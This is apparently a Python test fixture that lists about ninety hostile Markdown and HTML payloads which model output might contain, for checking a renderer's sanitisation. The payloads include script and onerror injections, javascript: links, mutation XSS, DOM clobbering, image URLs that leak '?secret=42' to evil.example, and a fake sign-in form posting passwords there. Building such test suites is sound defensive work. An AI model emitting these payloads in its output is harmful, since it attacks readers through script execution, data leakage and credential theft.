"""What a model, or whoever writes its prompts, may answer to attack the reader. `EVIL` stands for any other site."""

import json
import os
from pathlib import Path

EVIL = "https://evil.example"
# More of them, if the collections are there (BENCH_DATA): a line of JSON each, with its id.
COLLECTIONS = ("xss_payloads", "model_output_payloads", "hostile_filenames", "ssti_and_traversal")

PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in a sentence": "Hello <script src='https://evil.example/x.js'></script> there",
    "script, broken case": "<ScRiPt >alert(1)</sCrIpT >",
    "script in a fence's name": '```"><script>alert(1)</script>\nx\n```',
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror without quotes or spaces": "<img/src=x/onerror=alert(1)>",
    "img srcset": "<img srcset='https://evil.example/a.png 1x, https://evil.example/b.png 2x'>",
    "img lazy": "<img loading=eager src=https://evil.example/p.png?cookie=1>",
    "remote picture": "![chart](https://evil.example/p.png?secret=42)",
    "remote picture in a link": "[![a](https://evil.example/p.png)](https://evil.example/go)",
    "remote picture by reference": "![a][r]\n\n[r]: https://evil.example/p.png",
    "remote picture without a scheme": "![a](//evil.example/p.png)",
    "remote picture with a backslash": "![a](/\\evil.example/p.png)",
    "remote picture with user name": "![a](http://127.0.0.1@evil.example/p.png)",
    "picture by data": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "picture with a long secret in its path": "![x](https://evil.example/" + "A" * 2000 + ".png)",
    "svg": "<svg onload=alert(1)><circle r=9></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "svg use": "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "svg foreignObject": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "math mutation": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "form, style mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "noscript mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "style": "<style>body{display:none} *{background:url(https://evil.example/s)}</style>still here",
    "style attribute": "<p style='background:url(https://evil.example/s);position:fixed;inset:0'>over all</p>",
    "link stylesheet": "<link rel=stylesheet href=https://evil.example/s.css>",
    "link prefetch": "<link rel=dns-prefetch href=//evil.example>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href=https://evil.example/>[x](a)",
    "iframe": "<iframe src=https://evil.example></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": "<object data=https://evil.example/x.swf></object>",
    "embed": "<embed src=https://evil.example/x.swf>",
    "video": "<video src=https://evil.example/v autoplay poster=https://evil.example/p></video>",
    "video onerror": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=https://evil.example/a autoplay></audio>",
    "picture source": "<picture><source srcset=https://evil.example/p><img src=x></picture>",
    "input image": "<input type=image src=https://evil.example/p onerror=alert(1)>",
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "dialog and popover": (
        "<dialog open>Your session ended</dialog><div popover id=p>x</div><button popovertarget=p>x</button>"
    ),
    "form": "<form action=https://evil.example/steal><input name=password><button>Sign in again</button></form>",
    "form by attribute": "<button form=x formaction=javascript:alert(1)>x</button>",
    "body": "<body onload=alert(1) background=https://evil.example/b>",
    "table background": "<table background=https://evil.example/b><tr><td background=https://evil.example/c>x</table>",
    "javascript link": "[click](javascript:alert(1))",
    "javascript link, case": "[click](JaVaScRiPt:alert(1))",
    "javascript link, entities": "[click](&#106;&#97;vascript:alert(1))",
    "javascript link, tab": "[click](java&Tab;script:alert(1))",
    "javascript link, new line": '<a href="java\nscript:alert(1)">click</a>',
    "javascript link, control": '<a href="\x01javascript:alert(1)">click</a>',
    "javascript link by reference": "[click][r]\n\n[r]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "blob link": "[click](blob:https://evil.example/1)",
    "file link": "[click](file:///etc/passwd)",
    "link title breaks out": "[x](https://evil.example '\" onmouseover=alert(1) x=\"')",
    "link address breaks out": '[x](https://evil.example/"onmouseover="alert(1))',
    "picture text breaks out": '![" onerror=alert(1) x="](/static/icons/hyperagent.svg)',
    "link that pretends": "[https://bank.example/login](https://evil.example/login)",
    "link with ping": "<a href=/ ping=https://evil.example/ping download target=_self>x</a>",
    "clobbering": (
        "<a id=announcements name=cookie>x</a><img name=getElementById><form id=chat><input name=value></form>"
    ),
    "clobbering by heading": "# page-data\n\n<h1 id=page-data>x</h1>",
    "page behaviour by attribute": (
        "<button data-theme-toggle hx-get=https://evil.example x-on:click='alert(1)' @click='alert(1)'>x</button>"
    ),
    "classes": "<p class='visually-hidden modal menu failure'>x</p><code class='language-x button'>y</code>",
    "slots and parts": "<div slot=x part=y is=z contenteditable draggable=true inert hidden>x</div>",
    "aria": "<p aria-label='Approve' role=button tabindex=1 accesskey=a>x</p>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "custom element": "<x-evil onclick=alert(1)>x</x-evil>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "xml": "<?xml-stylesheet href='https://evil.example/s.xsl'?>",
    "text area": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "title": "<title><img src=x onerror=alert(1)></title>",
    "select": "<select><option><img src=x onerror=alert(1)></select>",
    "nested quotes": "<a href='x' title='\"><img src=x onerror=alert(1)>'>x</a>",
    "markup in a table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "markup in a list": "- <img src=x onerror=alert(1)>\n  - <script>alert(1)</script>",
    "markup in code is shown": "`<img src=x onerror=alert(1)>`\n\n```html\n<script>alert(1)</script>\n```",
    "unfinished": "<img src=x onerror=alert(1) ",
    "deep nesting": "<b>" * 600 + "x" + "> " * 300,
    "null and direction": "a\x00<img src=x onerror=alert(1)>\u202e<script>alert(1)</script>",
    "import": "<style>@import 'https://evil.example/s.css';</style>",
    "formula without an end": "$" + "T(java.lang.Character)." * 60 + "x$",
    "footnote and html": "[^1]\n\n[^1]: <img src=https://evil.example/p>",
}


def everything_hostile() -> dict[str, str]:
    """Ours, then those of the collections, by name."""
    folder = os.environ.get("BENCH_DATA")
    more: dict[str, str] = {}
    for name in COLLECTIONS if folder else ():
        for line in Path(folder or "", "security", name, "data.jsonl").read_text().splitlines():
            row = json.loads(line)
            more[row["id"]] = row.get("text") or row.get("name", "")
    return PAYLOADS | more
